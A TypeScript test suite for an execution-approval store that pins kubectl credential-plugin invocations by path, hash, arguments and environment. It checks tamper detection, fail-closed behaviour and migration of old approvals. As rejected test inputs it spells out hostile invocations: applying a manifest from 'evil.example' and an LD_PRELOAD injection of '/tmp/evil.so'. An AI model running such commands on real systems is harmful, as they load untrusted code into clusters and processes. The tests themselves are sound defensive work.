// SPDX-License-Identifier: Apache-2.0
import { mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { FileExecApprovals, legacyApprovalsMessage } from './exec-approvals';
import { invocationFingerprint, type ExecInvocation, type InvocationParts } from './exec-invocation';

const dir = () => mkdtempSync(path.join(tmpdir(), 'mldeck-approvals-'));
const HASH = 'a'.repeat(64);

function inv(more: Partial<InvocationParts> = {}, platform: NodeJS.Platform = 'linux'): ExecInvocation {
  const parts: InvocationParts = {
    path: '/usr/local/bin/kubectl',
    realpath: '/usr/local/bin/kubectl',
    sha256: HASH,
    args: ['oidc-login', 'get-token', '--oidc-issuer-url=https://issuer.example'],
    env: [{ name: 'AWS_PROFILE', value: 'ml' }],
    ...more,
  };
  return { fingerprint: invocationFingerprint(parts, platform), ...parts };
}

describe('FileExecApprovals (version 2: the whole invocation)', () => {
  it('approves, lists, persists (0600) and revokes one exact invocation', async () => {
    const file = path.join(dir(), 'nested', 'exec-approvals.json');
    const a = new FileExecApprovals(file, { platform: 'linux' });
    const kubelogin = inv();
    expect(await a.isApproved(kubelogin)).toBe(false);
    await a.approve(kubelogin, new Date('2026-01-02T03:04:05Z'));
    await a.approve(kubelogin);
    expect(await a.isApproved(kubelogin)).toBe(true);
    expect(statSync(file).mode & 0o777).toBe(0o600);

    const b = new FileExecApprovals(file, { platform: 'linux' });
    expect(await b.list()).toEqual([{ ...kubelogin, approvedAt: '2026-01-02T03:04:05.000Z' }]);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ version: 2 });
    await b.revoke(kubelogin.fingerprint);
    expect(await new FileExecApprovals(file, { platform: 'linux' }).isApproved(kubelogin)).toBe(false);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual({ version: 2, approved: [] });
  });

  it('asks again when anything about the invocation changes', async () => {
    const a = new FileExecApprovals(path.join(dir(), 'a.json'), { platform: 'linux' });
    await a.approve(inv());
    expect(await a.isApproved(inv())).toBe(true);
    // kubelogin's approved kubectl, reused by a shared kubeconfig to apply a remote manifest
    expect(await a.isApproved(inv({ args: ['apply', '-f', 'https://evil.example/x.yaml'] }))).toBe(false);
    expect(await a.isApproved(inv({ args: ['oidc-login', 'get-token'] }))).toBe(false);
    expect(await a.isApproved(inv({ env: [{ name: 'AWS_PROFILE', value: 'prod' }] }))).toBe(false);
    expect(await a.isApproved(inv({ env: [...inv().env, { name: 'LD_PRELOAD', value: '/tmp/evil.so' }] }))).toBe(false);
    expect(await a.isApproved(inv({ env: [] }))).toBe(false);
    expect(await a.isApproved(inv({ sha256: 'b'.repeat(64) }))).toBe(false); // the binary was replaced
    expect(await a.isApproved(inv({ realpath: '/tmp/evil' }))).toBe(false); // the symlink was swapped
    expect(await a.isApproved(inv({ path: '/opt/bin/kubectl' }))).toBe(false);
    expect(await a.isApproved(inv({ path: '/usr/local/bin/KUBECTL', realpath: '/usr/local/bin/KUBECTL' }))).toBe(false);
  });

  it('does not trust a fingerprint that does not match its fields (a lying caller or a hand-edited file)', async () => {
    const file = path.join(dir(), 'a.json');
    const a = new FileExecApprovals(file, { platform: 'linux' });
    const shown = inv();
    await expect(a.approve({ ...shown, args: ['apply', '-f', 'x'] })).rejects.toMatchObject({ code: 'validation' });
    await a.approve(shown);
    const stored = JSON.parse(readFileSync(file, 'utf8')) as { approved: { args: string[] }[] };
    stored.approved[0]!.args = ['apply', '-f', 'https://evil.example/x.yaml'];
    writeFileSync(file, JSON.stringify(stored));
    const b = new FileExecApprovals(file, { platform: 'linux' });
    expect(await b.list()).toEqual([]);
    expect(await b.isApproved(inv({ args: ['apply', '-f', 'https://evil.example/x.yaml'] }))).toBe(false);
  });

  it('compares paths without case on Windows', async () => {
    const a = new FileExecApprovals(path.join(dir(), 'a.json'), { platform: 'win32' });
    const p = path.resolve('/Tools/kubelogin.exe');
    await a.approve(inv({ path: p, realpath: p }, 'win32'));
    const q = path.resolve('/tools/KUBELOGIN.EXE');
    expect(await a.isApproved(inv({ path: q, realpath: q }, 'win32'))).toBe(true);
  });

  it('fails closed on a corrupt or foreign file', async () => {
    const file = path.join(dir(), 'a.json');
    writeFileSync(file, '{"version":2,"approved":"everything"}');
    expect(await new FileExecApprovals(file).isApproved(inv())).toBe(false);
    writeFileSync(file, 'not json');
    expect(await new FileExecApprovals(file).isApproved(inv())).toBe(false);
  });

  it('drops version-1 approvals (a path only), tells once how many, and rewrites the file', async () => {
    const file = path.join(dir(), 'a.json');
    writeFileSync(
      file,
      JSON.stringify({
        version: 1,
        approved: [
          { path: '/usr/local/bin/kubectl', approvedAt: '2026-01-01T00:00:00Z' },
          { path: '/bin/sh', approvedAt: '2026-01-01T00:00:00Z' },
        ],
      }),
    );
    const told: number[] = [];
    const a = new FileExecApprovals(file, { platform: 'linux', onLegacyDropped: (n) => told.push(n) });
    expect(await a.isApproved(inv({ path: '/usr/local/bin/kubectl', args: [], env: [] }))).toBe(false);
    expect(await a.isApproved(inv())).toBe(false);
    expect(await a.list()).toEqual([]);
    expect(told).toEqual([2]);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual({ version: 2, approved: [] });
    expect(statSync(file).mode & 0o777).toBe(0o600);
    // the next start finds a version-2 file: nothing more to tell
    const again: number[] = [];
    expect(await new FileExecApprovals(file, { onLegacyDropped: (n) => again.push(n) }).list()).toEqual([]);
    expect(again).toEqual([]);
    expect(legacyApprovalsMessage(2)).toMatch(/^2 approved credential plugins were dropped: .*exact program file, arguments and environment/);
    expect(legacyApprovalsMessage(1)).toMatch(/^1 approved credential plugin was dropped/);
  });

  it('refuses to approve a relative path', async () => {
    const a = new FileExecApprovals(path.join(dir(), 'a.json'));
    await expect(a.approve(inv({ path: 'kubelogin' }))).rejects.toMatchObject({ code: 'validation' });
  });

  it('serialises concurrent approvals', async () => {
    const file = path.join(dir(), 'a.json');
    const a = new FileExecApprovals(file);
    await Promise.all(['/a', '/b', '/c', '/d'].map((p) => a.approve(inv({ path: p, realpath: p }, process.platform))));
    expect((await new FileExecApprovals(file).list()).map((x) => x.path).sort()).toEqual(['/a', '/b', '/c', '/d']);
  });
});
